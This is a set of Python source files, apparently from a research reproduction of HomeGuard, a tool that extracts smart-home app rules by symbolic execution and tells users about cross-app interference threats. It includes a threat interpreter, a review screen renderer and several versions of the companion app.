    def _call_on_device(self, device: DeviceRef, expr: ast.MethodCall, state):
        name = expr.name
        if name in ("currentValue", "latestValue", "currentState", "latestState"):
            positional = expr.positional_args()
            if positional and isinstance(positional[0], ast.StringLiteral):
                return [(state, DeviceAttr(device, positional[0].value))]
            pairs = self._eval(positional[0], state) if positional else []
            if pairs and isinstance(pairs[0][1], Const):
                return [(pairs[0][0], DeviceAttr(device, str(pairs[0][1].value)))]
            return [(state, CallExpr("currentValue", (device,)))]
        if name in ("getId",):
            return [(state, CallExpr("deviceId", (device,)))]
        if name in ("getDisplayName", "getLabel"):
            return [(state, CallExpr("displayName", (device,)))]
        if name in ("events", "eventsSince", "statesSince", "eventsBetween"):
            return [(state, CallExpr("deviceHistory", (device,)))]
        if name == "hasCapability":
            return [(state, CallExpr("hasCapability", (device,)))]
        if name in ("each", "collect", "findAll", "find", "any", "every"):
            # A group input used with an iterator: run the closure once
            # with the loop variable standing for the whole group.
            return self._run_iterator_closure(receiver=device, expr=expr, state=state)
        if is_sink_command(name):
            results, _closures, _named = self._eval_args(expr, state)
            spec = find_command(name, device.capability)
            out = []
            for st, values in results:
                self._emit_sink_action(
                    st,
                    Action(
                        subject=device.name,
                        command=name,
                        params=tuple(values),
                        when=st.when,
                        period=st.period,
                        device=device,
                        capability=spec.capability if spec else None,
                    ),
                )
                out.append((st, Const(None)))
            return out
        self._ctx.warnings.append(
            f"unmodeled device method {name!r} on {device.name!r}"
        )
        results, _closures, _named = self._eval_args(expr, state)
        return [
            (st, CallExpr(f"device.{name}", (device, *values)))
            for st, values in results
        ]

    def _run_iterator_closure(self, receiver: SymExpr, expr: ast.MethodCall, state):
        closures = [arg for arg in expr.args if isinstance(arg, ast.ClosureExpr)]
        if not closures:
            return [(state, CallExpr(expr.name, (receiver,)))]
        closure = closures[0]
        param = closure.params[0].name if closure.params else "it"
        items: list[SymExpr]
        if isinstance(receiver, ListVal):
            items = list(receiver.items)
        else:
            items = [receiver]
        states = [state]
        for item in items:
            next_states = []
            for st in states:
                st.env[param] = item
                next_states.extend(self._exec_block(closure.body, st))
            states = self._cap_states(next_states)
        out = []
        for final in states:
            final.returned = False
            final.broke = False
            out.append((final, receiver))
        return out

    def _call_on_list(self, receiver: ListVal, expr: ast.MethodCall, state):
        name = expr.name
        if name in ("each", "collect", "findAll", "find", "any", "every"):
            return self._run_iterator_closure(receiver, expr, state)
        if name == "size":
            return [(state, Const(len(receiver.items)))]
        if name == "contains":
            results, _closures, _named = self._eval_args(expr, state)
            return [
                (st, self._binop("in", values[0], receiver) if values else Const(False))
                for st, values in results
            ]
        if is_sink_command(name) and receiver.items and all(
            isinstance(item, DeviceRef) for item in receiver.items
        ):
            # Commands fan out over explicit device lists.
            out = []
            results, _closures, _named = self._eval_args(expr, state)
            for st, values in results:
                for item in receiver.items:
                    spec = find_command(name, item.capability)
                    self._emit_sink_action(
                        st,
                        Action(
                            subject=item.name,
                            command=name,
                            params=tuple(values),
                            when=st.when,
                            period=st.period,
                            device=item,
                            capability=spec.capability if spec else None,
                        ),
                    )
                out.append((st, Const(None)))
            return out
        results, _closures, _named = self._eval_args(expr, state)
        return [
            (st, CallExpr(f"list.{name}", (receiver, *values)))
            for st, values in results
        ]

    _COERCIONS = {
        "toInteger", "toFloat", "toDouble", "toBigDecimal", "intValue",
        "floatValue", "doubleValue", "toString", "trim", "toLowerCase",
        "toUpperCase", "value",
    }

    def _call_generic(self, receiver: SymExpr, expr: ast.MethodCall, state):
        name = expr.name
        if name in self._COERCIONS:
            if isinstance(receiver, Const):
                return [(state, self._coerce_const(name, receiver))]
            return [(state, receiver)]
        if name in ("equals",):
            results, _closures, _named = self._eval_args(expr, state)
            return [
                (st, self._binop("==", receiver, values[0]) if values else Const(False))
                for st, values in results
            ]
        if name in ("contains", "startsWith", "endsWith"):
            results, _closures, _named = self._eval_args(expr, state)
            out = []
            for st, values in results:
                arg = values[0] if values else Const(None)
                if (
                    isinstance(receiver, Const)
                    and isinstance(arg, Const)
                    and isinstance(receiver.value, str)
                    and isinstance(arg.value, str)
                ):
                    if name == "contains":
                        out.append((st, Const(arg.value in receiver.value)))
                    elif name == "startsWith":
                        out.append((st, Const(receiver.value.startswith(arg.value))))
                    else:
                        out.append((st, Const(receiver.value.endswith(arg.value))))
                else:
                    out.append((st, CallExpr(name, (receiver, arg))))
            return out
        if name in ("each", "collect", "findAll", "find", "any", "every"):
            return self._run_iterator_closure(receiver, expr, state)
        results, _closures, _named = self._eval_args(expr, state)
        return [
            (st, CallExpr(f"call.{name}", (receiver, *values)))
            for st, values in results
        ]

    @staticmethod
    def _coerce_const(name: str, constant: Const) -> Const:
        value = constant.value
        try:
            if name in ("toInteger", "intValue"):
                return Const(int(value))
            if name in ("toFloat", "toDouble", "toBigDecimal", "floatValue",
                        "doubleValue"):
                return Const(float(value))
            if name == "toString":
                return Const(str(value))
            if name == "trim":
                return Const(str(value).strip())
            if name == "toLowerCase":
                return Const(str(value).lower())
            if name == "toUpperCase":
                return Const(str(value).upper())
        except (TypeError, ValueError):
            return constant
        return constant

    # ------------------------------------------------------------------
    # Rule assembly

    def _emit_sink_action(self, state: PathState, action: Action) -> None:
        trigger = self._current_trigger
        if trigger is None:
            trigger = Trigger(subject="install", attribute="lifecycle")
        defs = {constraint.name: constraint.value for constraint in state.data}
        event_terms: list[SymExpr] = []
        condition_terms: list[SymExpr] = []
        if trigger.constraint is not None:
            event_terms.append(trigger.constraint)
        for term in state.path:
            # Split top-level conjunctions so `evt.value == "on" && t > x`
            # contributes its event half to the trigger constraint and the
            # rest to the rule condition (paper §V-B).
            for conjunct in self._flatten_conjuncts(term):
                resolved = self._resolve(conjunct, defs)
                if any(isinstance(node, (EventValue, EventAttr))
                       for node in resolved.walk()):
                    event_terms.append(conjunct)
                else:
                    condition_terms.append(conjunct)
        data_constraints = self._relevant_data(
            state, condition_terms + event_terms, action, defs
        )
        final_trigger = Trigger(
            subject=trigger.subject,
            attribute=trigger.attribute,
            constraint=conjoin(event_terms),
            device=trigger.device,
        )
        condition = Condition(
            data_constraints=tuple(data_constraints),
            predicate_constraints=tuple(condition_terms),
        )
        rule = Rule(
            app_name=self._app_name,
            rule_id=f"{self._app_name}/R{len(self._rules) + 1}",
            trigger=final_trigger,
            condition=condition,
            action=action,
        )
        # Keyed by repr: Const values may hold unhashable dicts/lists.
        key = repr((final_trigger, condition, action))
        if key in self._rule_keys:
            return
        self._rule_keys.add(key)
        self._rules.append(rule)

    def _relevant_data(
        self,
        state: PathState,
        terms: list[SymExpr],
        action: Action,
        defs: dict[str, SymExpr],
    ) -> list[DataConstraint]:
        """Data constraints reachable from the rule's predicates and
        action parameters, plus symbolic-input markers (the paper's
        ``#DevState`` notation in Table II)."""
        needed: set[str] = set()
        frontier: list[SymExpr] = list(terms) + list(action.params)
        seen_exprs: list[SymExpr] = []
        while frontier:
            expr = frontier.pop()
            seen_exprs.append(expr)
            for node in expr.walk():
                if isinstance(node, LocalVar) and node.key not in needed:
                    needed.add(node.key)
                    definition = defs.get(node.key)
                    if definition is not None:
                        frontier.append(definition)
        ordered: list[DataConstraint] = []
        for constraint in state.data:
            if constraint.name in needed:
                ordered.append(constraint)
        markers: list[DataConstraint] = []
        marked: set[str] = set()
        for expr in seen_exprs:
            for node in expr.walk():
                if isinstance(node, DeviceAttr):
                    key = f"{node.device.name}.{node.attribute}"
                    if key not in marked:
                        marked.add(key)
                        markers.append(DataConstraint(key, Const("#DevState")))
                elif isinstance(node, UserInput):
                    if node.name not in marked:
                        marked.add(node.name)
                        markers.append(
                            DataConstraint(node.name, Const("#UserInput"))
                        )
        return ordered + markers

    def _flatten_conjuncts(self, term: SymExpr) -> list[SymExpr]:
        if isinstance(term, BinExpr) and term.op == "&&":
            return self._flatten_conjuncts(term.left) + self._flatten_conjuncts(
                term.right
            )
        return [term]

    def _resolve(self, expr: SymExpr, defs: dict[str, SymExpr]) -> SymExpr:
        """Substitute local-variable definitions (used to classify
        constraints as event-related)."""
        if isinstance(expr, LocalVar):
            definition = defs.get(expr.key)
            if definition is None:
                return expr
            return self._resolve(definition, defs)
        if isinstance(expr, BinExpr):
            return BinExpr(
                expr.op,
                self._resolve(expr.left, defs),
                self._resolve(expr.right, defs),
            )
        if isinstance(expr, NotExpr):
            return NotExpr(self._resolve(expr.operand, defs))
        if isinstance(expr, Concat):
            return Concat(tuple(self._resolve(part, defs) for part in expr.parts))
        if isinstance(expr, CallExpr):
            return CallExpr(
                expr.function,
                tuple(self._resolve(arg, defs) for arg in expr.args),
            )
        return expr
