"""Symbolic execution engine for SmartApp rule extraction (paper §V-B).

The engine explores every execution path of a SmartApp from its entry
points (``installed``/``updated``) to its sinks (capability-protected
device commands and sensitive platform APIs), collecting the path
condition along the way.  Each complete path yields one automation rule:
the subscription provides the trigger, the path condition provides the
trigger constraint + rule condition, and the sink provides the action.
"""

from repro.symex.values import (
    BinExpr,
    CallExpr,
    Concat,
    Const,
    DeviceAttr,
    DeviceRef,
    EventAttr,
    EventValue,
    ListVal,
    LocationAttr,
    NotExpr,
    StateVal,
    SymExpr,
    TimeVal,
    UserInput,
)
__all__ = [
    "BinExpr",
    "CallExpr",
    "Concat",
    "Const",
    "DeviceAttr",
    "DeviceRef",
    "EventAttr",
    "EventValue",
    "ListVal",
    "LocationAttr",
    "NotExpr",
    "StateVal",
    "SymExpr",
    "SymbolicExecutionError",
    "SymbolicExecutor",
    "TimeVal",
    "UserInput",
]


def __getattr__(name: str):
    # The engine depends on repro.rules.model, which itself imports this
    # package for the expression types; loading the engine lazily breaks
    # the cycle without restructuring the public API.
    if name in ("SymbolicExecutor", "SymbolicExecutionError"):
        from repro.symex import engine

        return getattr(engine, name)
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")
