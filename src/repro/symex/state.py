"""Path state for the symbolic executor.

A :class:`PathState` captures everything that varies along one explored
execution path: the local symbolic store, the path condition, data
constraints (variable definitions), the scheduled delay accumulated by
``runIn`` tracing, and the per-path view of ``state.*`` slots.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.rules.model import DataConstraint
from repro.symex.values import SymExpr


@dataclass(slots=True)
class PathState:
    """Mutable state cloned at every fork point."""

    env: dict[str, SymExpr] = field(default_factory=dict)
    versions: dict[str, int] = field(default_factory=dict)
    data: list[DataConstraint] = field(default_factory=list)
    path: list[SymExpr] = field(default_factory=list)
    state_store: dict[str, SymExpr] = field(default_factory=dict)
    when: float | SymExpr = 0.0
    period: float | SymExpr = 0.0
    returned: bool = False
    return_value: SymExpr | None = None
    broke: bool = False
    call_depth: int = 0

    def clone(self) -> "PathState":
        return PathState(
            env=dict(self.env),
            versions=dict(self.versions),
            data=list(self.data),
            path=list(self.path),
            state_store=dict(self.state_store),
            when=self.when,
            period=self.period,
            returned=self.returned,
            return_value=self.return_value,
            broke=self.broke,
            call_depth=self.call_depth,
        )

    def assume(self, constraint: SymExpr) -> None:
        self.path.append(constraint)

    def define(self, key: str, value: SymExpr) -> None:
        self.data.append(DataConstraint(key, value))

    @property
    def halted(self) -> bool:
        return self.returned or self.broke
