"""HomeGuard frontend (paper Fig. 6 right-hand side, Fig. 7b).

The frontend bridges the system and the user: the *rule interpreter*
shows what the app being installed will do, the *threat interpreter*
explains each detected CAI threat in a readable way, and the app screen
lets the user keep the app, reconfigure it, or delete it.
"""

from repro.frontend.threat_interpreter import describe_threat
from repro.frontend.app import HomeGuardApp, InstallDecision, InstallReview
from repro.frontend.ui import render_review

__all__ = [
    "HomeGuardApp",
    "InstallDecision",
    "InstallReview",
    "describe_threat",
    "render_review",
]
