"""Human-readable CAI threat explanations (the Threat Interpreter)."""

from __future__ import annotations

from repro.detector.types import Threat, ThreatType
from repro.rules.interpreter import describe_action, describe_trigger

_HEADLINES = {
    ThreatType.ACTUATOR_RACE: "Actuator Race",
    ThreatType.GOAL_CONFLICT: "Goal Conflict",
    ThreatType.COVERT_TRIGGERING: "Covert Triggering",
    ThreatType.SELF_DISABLING: "Self Disabling",
    ThreatType.LOOP_TRIGGERING: "Loop Triggering",
    ThreatType.ENABLING_CONDITION: "Enabling-Condition Interference",
    ThreatType.DISABLING_CONDITION: "Disabling-Condition Interference",
    ThreatType.CHAINED: "Chained Interference",
}


def describe_threat(threat: Threat) -> str:
    """One compact, user-facing explanation of a detected threat."""
    a, b = threat.rule_a, threat.rule_b
    headline = _HEADLINES[threat.type]
    if threat.type is ThreatType.ACTUATOR_RACE:
        body = (
            f"'{a.app_name}' and '{b.app_name}' can fire in the same "
            f"situation and issue contradictory commands "
            f"({a.action.command} vs {b.action.command}) on the same "
            f"device — its final state becomes unpredictable."
        )
    elif threat.type is ThreatType.GOAL_CONFLICT:
        body = (
            f"'{a.app_name}' ({describe_action(a.action)}) and "
            f"'{b.app_name}' ({describe_action(b.action)}) work against "
            f"each other: {threat.detail}."
        )
    elif threat.type is ThreatType.COVERT_TRIGGERING:
        body = (
            f"'{a.app_name}' can covertly trigger '{b.app_name}': "
            f"{threat.detail}. A covert rule forms — "
            f"{describe_trigger(a.trigger)}, then "
            f"{describe_action(b.action)}."
        )
    elif threat.type is ThreatType.SELF_DISABLING:
        body = (
            f"'{b.app_name}' undoes '{a.app_name}' right after it acts: "
            f"{threat.detail}."
        )
    elif threat.type is ThreatType.LOOP_TRIGGERING:
        body = (
            f"'{a.app_name}' and '{b.app_name}' trigger each other in a "
            f"loop with contradictory commands — devices may oscillate "
            f"(on/off flapping)."
        )
    elif threat.type is ThreatType.ENABLING_CONDITION:
        body = (
            f"'{a.app_name}' can enable the condition of '{b.app_name}' "
            f"({threat.detail}), causing it to act when it otherwise "
            f"would not."
        )
    elif threat.type is ThreatType.DISABLING_CONDITION:
        body = (
            f"'{a.app_name}' can disable the condition of '{b.app_name}' "
            f"({threat.detail}) — '{b.app_name}' may silently stop "
            f"working (false negatives)."
        )
    else:
        hops = " -> ".join(rule.app_name for rule in threat.chain)
        body = f"A chain of rules forms a covert automation: {hops}."
    situation = _witness_summary(threat)
    if situation:
        body += f" Example situation: {situation}."
    return f"[{threat.type.value}] {headline}: {body}"


def _witness_summary(threat: Threat, limit: int = 3) -> str:
    interesting = []
    for key, value in threat.witness:
        if key.startswith(("dev:", "type:", "location:", "input:")):
            short = key.split(":", 1)[1] if ":" in key else key
            if isinstance(value, float):
                value = round(value, 1)
            interesting.append(f"{short} = {value}")
        if len(interesting) >= limit:
            break
    return ", ".join(interesting)
