"""Text rendering of the installation review screen (paper Fig. 7b)."""

from __future__ import annotations

from repro.frontend.app import InstallReview
from repro.frontend.threat_interpreter import describe_threat

_WIDTH = 72


def render_review(review: InstallReview) -> str:
    """Render the review as the text screen the companion app shows."""
    lines = [
        "=" * _WIDTH,
        f" HomeGuard — installing '{review.app_name}'".ljust(_WIDTH - 1) + "|"[:0],
        "=" * _WIDTH,
        "",
        " This app defines the following automation rule(s):",
    ]
    for index, rule in enumerate(review.rules, start=1):
        lines.append(f"   R{index}. {rule}")
    lines.append("")
    if review.clean:
        lines.append(" No cross-app interference detected with installed apps.")
    else:
        total = len(review.threats) + len(review.chains)
        lines.append(
            f" !! {total} potential cross-app interference threat(s) detected:"
        )
        for threat in review.threats:
            lines.extend(_wrap(describe_threat(threat)))
        for threat in review.chains:
            lines.extend(_wrap(describe_threat(threat)))
    lines.extend(
        [
            "",
            " Options: [Keep]   [Reconfigure]   [Delete]",
            "=" * _WIDTH,
        ]
    )
    return "\n".join(lines)


def _wrap(text: str, indent: str = "   - ", width: int = _WIDTH - 6) -> list[str]:
    words = text.split()
    lines: list[str] = []
    current = indent
    for word in words:
        if len(current) + len(word) + 1 > width and current.strip():
            lines.append(current)
            current = " " * len(indent)
        current += ("" if current.endswith(" ") else " ") + word
    if current.strip():
        lines.append(current)
    return lines
