"""The HomeGuard companion app (paper §VII-B) — compatibility shim.

.. deprecated::
    The companion-app core moved to :mod:`repro.service`:
    :class:`~repro.service.home.TenantHome` holds one home's state and
    :class:`~repro.service.service.HomeGuardService` serves many homes
    over shared backend/dispatcher machinery with typed wire schemas
    and pluggable threat-handling policies (DESIGN.md §11).

:class:`HomeGuardApp` remains as a thin shim: it constructs a
single-home service and delegates every call, so existing code —
receive configuration URIs, review installations, apply one-time
decisions, persist/restore — behaves bit-for-bit as before (same
threats, same caches, same store bytes; the equivalence gate in
``tests/test_service_equivalence.py`` enforces it).  New code should
use :class:`repro.service.HomeGuardService` directly.
"""

from __future__ import annotations

import warnings
from pathlib import Path

from repro.config.messaging import MessageRecord, Transport
from repro.config.uri import ConfigPayload
from repro.rules.extractor import RuleExtractor
from repro.rules.model import RuleSet
from repro.service.home import (  # re-exported for backward compatibility
    InstallDecision,
    InstallReview,
    TenantHome,
    _threat_from_record,
    _threat_record,
)
from repro.service.service import HomeGuardService

__all__ = ["HomeGuardApp", "InstallDecision", "InstallReview"]

_DEFAULT_HOME = "default"


class HomeGuardApp:
    """Single-home companion app, shimmed over the service.

    ``workers`` selects the solver dispatch mode for detection runs
    (DESIGN.md §9/§10); the shared-dispatcher semantics and the
    ``"auto"`` default are unchanged.  All state attributes
    (``config_recorder``, ``rule_recorder``, ``pipeline``, ``allowed``,
    ``reviews``, ``frontend_state``, ``store``) remain live views of
    the underlying :class:`~repro.service.home.TenantHome`.
    """

    def __init__(
        self,
        backend: RuleExtractor,
        transport: Transport | None = None,
        store_path: str | Path | None = None,
        workers: int | str | None = "auto",
    ) -> None:
        warnings.warn(
            "HomeGuardApp is a compatibility shim; use "
            "repro.service.HomeGuardService for new code",
            DeprecationWarning,
            stacklevel=2,
        )
        service = HomeGuardService(extractor=backend, workers=workers)
        home = service.create_home(_DEFAULT_HOME, store_path=store_path)
        self._bind(service, home, transport)

    def _bind(
        self,
        service: HomeGuardService,
        home: TenantHome,
        transport: Transport | None,
    ) -> None:
        self.service = service
        self._home = home
        if transport is not None:
            transport.connect(home.receive_message)

    @classmethod
    def _over(
        cls,
        service: HomeGuardService,
        home: TenantHome,
        transport: Transport | None = None,
    ) -> "HomeGuardApp":
        """Wrap an existing service home (internal: lets the
        ``HomeGuard`` facade share one service with its ``.app`` view
        without a second deprecation warning)."""
        app = cls.__new__(cls)
        app._bind(service, home, transport)
        return app

    # ------------------------------------------------------------------
    # Live state views

    @property
    def config_recorder(self):
        return self._home.config_recorder

    @property
    def rule_recorder(self):
        return self._home.rule_recorder

    @property
    def pipeline(self):
        return self._home.pipeline

    @property
    def store(self):
        return self._home.store

    @property
    def allowed(self):
        return self._home.allowed

    @property
    def reviews(self) -> list[InstallReview]:
        return self._home.reviews

    @property
    def frontend_state(self) -> dict:
        return self._home.frontend_state

    @frontend_state.setter
    def frontend_state(self, value: dict) -> None:
        self._home.frontend_state = value

    @property
    def _backend(self) -> RuleExtractor:
        return self._home.backend

    @property
    def _pending(self) -> list[ConfigPayload]:
        return self._home._pending

    # ------------------------------------------------------------------
    # Delegated flow

    def receive_message(self, record: MessageRecord) -> None:
        self._home.receive_message(record)

    def review_pending(
        self, device_types: dict[str, str] | None = None
    ) -> list[InstallReview]:
        return self._home.review_pending(device_types)

    def review_installation(
        self,
        payload: ConfigPayload,
        device_types: dict[str, str] | None = None,
    ) -> InstallReview:
        return self._home.review_installation(payload, device_types)

    def decide(
        self, review: InstallReview, decision: InstallDecision
    ) -> None:
        self._home.decide(review, decision)

    def installed_apps(self) -> list[str]:
        return self._home.installed_apps()

    def ruleset_of(self, app_name: str) -> RuleSet | None:
        return self._home.ruleset_of(app_name)

    def save_store(self) -> None:
        self._home.save_store()

    def load_store(self) -> list[str]:
        return self._home.load_store()
