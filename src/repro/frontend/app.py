"""The HomeGuard companion app (paper §VII-B).

Receives configuration URIs from the messaging transport, fetches the
app's rules from the backend rule extractor, records both, runs CAI
detection against the installed history, and presents an installation
review for the user's one-time decision (keep / reconfigure / delete).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.config.messaging import MessageRecord, Transport
from repro.config.recorder import ConfigRecorder, RuleRecorder
from repro.config.uri import ConfigPayload, decode_uri
from repro.detector.chains import AllowedList, find_chains
from repro.detector.pipeline import DetectionPipeline
from repro.detector.types import Threat
from repro.rules.extractor import RuleExtractor
from repro.rules.interpreter import describe_rule
from repro.rules.model import RuleSet


class InstallDecision(enum.Enum):
    KEEP = "keep"
    RECONFIGURE = "reconfigure"
    DELETE = "delete"


@dataclass(slots=True)
class InstallReview:
    """Everything shown to the user for one installation."""

    app_name: str
    rules: list[str]
    threats: list[Threat] = field(default_factory=list)
    chains: list[Threat] = field(default_factory=list)

    @property
    def clean(self) -> bool:
        return not self.threats and not self.chains


class HomeGuardApp:
    """The mobile-side HomeGuard app instance."""

    def __init__(
        self,
        backend: RuleExtractor,
        transport: Transport | None = None,
    ) -> None:
        self._backend = backend
        self.config_recorder = ConfigRecorder()
        self.rule_recorder = RuleRecorder()
        # Incremental detection state: the pipeline's index holds the
        # signed rules of every kept app, so each review solves only
        # index-selected candidate pairs (DESIGN.md).
        self.pipeline = DetectionPipeline(self.config_recorder)
        self.allowed = AllowedList()
        self.reviews: list[InstallReview] = []
        if transport is not None:
            transport.connect(self.receive_message)
        self._pending: list[ConfigPayload] = []

    # ------------------------------------------------------------------
    # Message intake

    def receive_message(self, record: MessageRecord) -> None:
        """Transport callback: decode the URI and queue the payload (the
        user then "clicks the notification" via :meth:`review_pending`)."""
        payload = decode_uri(record.uri)
        self._pending.append(payload)

    def review_pending(
        self, device_types: dict[str, str] | None = None
    ) -> list[InstallReview]:
        """Process queued payloads into installation reviews."""
        reviews = []
        while self._pending:
            payload = self._pending.pop(0)
            reviews.append(self.review_installation(payload, device_types))
        return reviews

    # ------------------------------------------------------------------
    # Detection flow

    def review_installation(
        self,
        payload: ConfigPayload,
        device_types: dict[str, str] | None = None,
    ) -> InstallReview:
        """The online detection run for one app installation/update."""
        ruleset = self._backend.rules_of(payload.app_name)
        if ruleset is None:
            raise LookupError(
                f"backend has no rules for app {payload.app_name!r}; extract "
                "it first (offline phase) or submit the custom source"
            )
        # A re-recorded configuration may change device identities, in
        # which case everything cached about this app is stale.  An
        # identical payload (audit_existing replays) keeps the caches.
        previous = self.config_recorder.config_of(payload.app_name)
        retyped_devices = {
            device_id
            for device_id, type_name in (device_types or {}).items()
            if self.config_recorder.device_types.get(device_id) != type_name
        }
        self.config_recorder.record(payload, device_types)
        if previous != payload or retyped_devices:
            self.pipeline.invalidate_app(payload.app_name)
        if retyped_devices:
            # Device types are home-global: re-typing a device changes
            # the signatures of every installed app bound to it.
            for app_name, recorded in self.config_recorder.payloads.items():
                if app_name != payload.app_name and retyped_devices & set(
                    recorded.devices.values()
                ):
                    self.pipeline.invalidate_app(app_name)
        report = self.pipeline.detect(ruleset)
        chains = find_chains(report.threats, self.allowed)
        review = InstallReview(
            app_name=payload.app_name,
            rules=[describe_rule(rule) for rule in ruleset.rules],
            threats=report.threats,
            chains=chains,
        )
        self.reviews.append(review)
        return review

    def decide(
        self, review: InstallReview, decision: InstallDecision
    ) -> None:
        """Apply the user's one-time decision."""
        ruleset = self._backend.rules_of(review.app_name)
        assert ruleset is not None
        if decision is InstallDecision.KEEP:
            self.rule_recorder.record(ruleset)
            self.pipeline.commit(review.app_name, ruleset)
            # Accepted pairs join the Allowed list for chained detection
            # (paper §VI-D).
            self.allowed.add_all(review.threats)
        elif decision is InstallDecision.DELETE:
            self.rule_recorder.forget(review.app_name)
            self.config_recorder.forget(review.app_name)
            self.pipeline.discard(review.app_name)
            self.pipeline.remove_ruleset(review.app_name)
        else:
            # RECONFIGURE keeps nothing: the app will send a fresh
            # payload after the user updates its settings.
            self.pipeline.discard(review.app_name)

    def installed_apps(self) -> list[str]:
        return sorted(self.rule_recorder.rulesets)

    def ruleset_of(self, app_name: str) -> RuleSet | None:
        return self.rule_recorder.rules_of(app_name)
