"""The HomeGuard companion app (paper §VII-B).

Receives configuration URIs from the messaging transport, fetches the
app's rules from the backend rule extractor, records both, runs CAI
detection against the installed history, and presents an installation
review for the user's one-time decision (keep / reconfigure / delete).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from pathlib import Path

from repro.config.messaging import MessageRecord, Transport
from repro.config.recorder import ConfigRecorder, RuleRecorder
from repro.config.uri import ConfigPayload, decode_uri
from repro.detector.chains import AllowedList, find_chains
from repro.detector.pipeline import DetectionPipeline
from repro.detector.store import DetectionStore
from repro.detector.types import Threat, ThreatType
from repro.rules.extractor import RuleExtractor
from repro.rules.interpreter import describe_rule
from repro.rules.model import RuleSet


class InstallDecision(enum.Enum):
    KEEP = "keep"
    RECONFIGURE = "reconfigure"
    DELETE = "delete"


@dataclass(slots=True)
class InstallReview:
    """Everything shown to the user for one installation.

    ``decision`` records the user's one-time choice once
    :meth:`HomeGuardApp.decide` ran — it is persisted with the review,
    so a warm-started process can still show why an app is installed
    (and which accepted threats fed the Allowed list)."""

    app_name: str
    rules: list[str]
    threats: list[Threat] = field(default_factory=list)
    chains: list[Threat] = field(default_factory=list)
    decision: str | None = None

    @property
    def clean(self) -> bool:
        return not self.threats and not self.chains


def _threat_record(threat: Threat) -> list:
    """A threat as a JSON-able record: type, rule ids, detail, witness
    and (for chained threats) the chain's rule ids."""
    return [
        threat.type.value,
        threat.rule_a.rule_id,
        threat.rule_b.rule_id,
        threat.detail,
        [[key, value] for key, value in threat.witness],
        [rule.rule_id for rule in threat.chain],
    ]


def _threat_from_record(record, rules_by_id) -> Threat | None:
    """Rebuild a persisted threat; ``None`` when the record is malformed
    or mentions rules that did not restore (degraded, never a crash)."""
    try:
        type_value, id_a, id_b, detail, witness, chain_ids = record
        threat_type = ThreatType(type_value)
        rule_a, rule_b = rules_by_id[id_a], rules_by_id[id_b]
        chain = tuple(rules_by_id[rule_id] for rule_id in chain_ids)
        return Threat(
            type=threat_type,
            rule_a=rule_a,
            rule_b=rule_b,
            detail=str(detail),
            witness=tuple((str(key), value) for key, value in witness),
            chain=chain,
        )
    except (TypeError, ValueError, KeyError):
        return None


class HomeGuardApp:
    """The mobile-side HomeGuard app instance.

    ``workers`` selects the solver dispatch mode for detection runs
    (DESIGN.md §9/§10).  The default ``"auto"`` adapts per review:
    small solve batches run on the serial reference, and batches above
    the auto threshold fan planning *and* solving out to a process pool
    sized from the host's CPU count.  ``None`` keeps the historical
    inline serial path; an int > 1 fans each review's batch out to that
    many worker processes; ``"thread:N"`` / ``"process:N"`` / a
    :class:`~repro.constraints.dispatch.SolverDispatcher` instance pick
    a backend explicitly.  Reported threats are identical in every
    mode.
    """

    def __init__(
        self,
        backend: RuleExtractor,
        transport: Transport | None = None,
        store_path: str | Path | None = None,
        workers: int | str | None = "auto",
    ) -> None:
        self._backend = backend
        self.config_recorder = ConfigRecorder()
        self.rule_recorder = RuleRecorder()
        # Incremental detection state: the pipeline's index holds the
        # signed rules of every kept app, so each review solves only
        # index-selected candidate pairs (DESIGN.md).
        self.pipeline = DetectionPipeline(
            self.config_recorder, dispatcher=workers
        )
        # Optional persistence: decisions are snapshotted to the store
        # on every commit, and :meth:`load_store` warm-starts a fresh
        # process from the last snapshot (DESIGN.md §8).
        self.store = (
            DetectionStore(store_path) if store_path is not None else None
        )
        self.allowed = AllowedList()
        self.reviews: list[InstallReview] = []
        # Opaque facade state (e.g. HomeGuard's registered home devices)
        # persisted verbatim with every snapshot.
        self.frontend_state: dict = {}
        if transport is not None:
            transport.connect(self.receive_message)
        self._pending: list[ConfigPayload] = []

    # ------------------------------------------------------------------
    # Message intake

    def receive_message(self, record: MessageRecord) -> None:
        """Transport callback: decode the URI and queue the payload (the
        user then "clicks the notification" via :meth:`review_pending`)."""
        payload = decode_uri(record.uri)
        self._pending.append(payload)

    def review_pending(
        self, device_types: dict[str, str] | None = None
    ) -> list[InstallReview]:
        """Process queued payloads into installation reviews."""
        reviews = []
        while self._pending:
            payload = self._pending.pop(0)
            reviews.append(self.review_installation(payload, device_types))
        return reviews

    # ------------------------------------------------------------------
    # Detection flow

    def _resolve_ruleset(self, app_name: str) -> RuleSet:
        """The app's rules, preferring the backend extractor.

        A warm-started process may not have re-run the offline
        extraction; the recorded (persisted) rules are the same
        loss-free representation the backend would serve."""
        ruleset = self._backend.rules_of(app_name)
        if ruleset is None:
            ruleset = self.rule_recorder.rules_of(app_name)
        if ruleset is None:
            raise LookupError(
                f"backend has no rules for app {app_name!r}; extract it "
                "first (offline phase) or submit the custom source"
            )
        return ruleset

    def review_installation(
        self,
        payload: ConfigPayload,
        device_types: dict[str, str] | None = None,
    ) -> InstallReview:
        """The online detection run for one app installation/update."""
        ruleset = self._resolve_ruleset(payload.app_name)
        # A re-recorded configuration may change device identities, in
        # which case everything cached about this app is stale.  An
        # identical payload (audit_existing replays) keeps the caches.
        previous = self.config_recorder.config_of(payload.app_name)
        retyped_devices = {
            device_id
            for device_id, type_name in (device_types or {}).items()
            if self.config_recorder.device_types.get(device_id) != type_name
        }
        self.config_recorder.record(payload, device_types)
        if previous != payload or retyped_devices:
            self.pipeline.invalidate_app(payload.app_name)
        if retyped_devices:
            # Device types are home-global: re-typing a device changes
            # the signatures of every installed app bound to it.
            for app_name, recorded in self.config_recorder.payloads.items():
                if app_name != payload.app_name and retyped_devices & set(
                    recorded.devices.values()
                ):
                    self.pipeline.invalidate_app(app_name)
        report = self.pipeline.detect(ruleset)
        chains = find_chains(report.threats, self.allowed)
        review = InstallReview(
            app_name=payload.app_name,
            rules=[describe_rule(rule) for rule in ruleset.rules],
            threats=report.threats,
            chains=chains,
        )
        self.reviews.append(review)
        return review

    def decide(
        self, review: InstallReview, decision: InstallDecision
    ) -> None:
        """Apply the user's one-time decision."""
        review.decision = decision.value
        if decision is InstallDecision.KEEP:
            ruleset = self._resolve_ruleset(review.app_name)
            self.rule_recorder.record(ruleset)
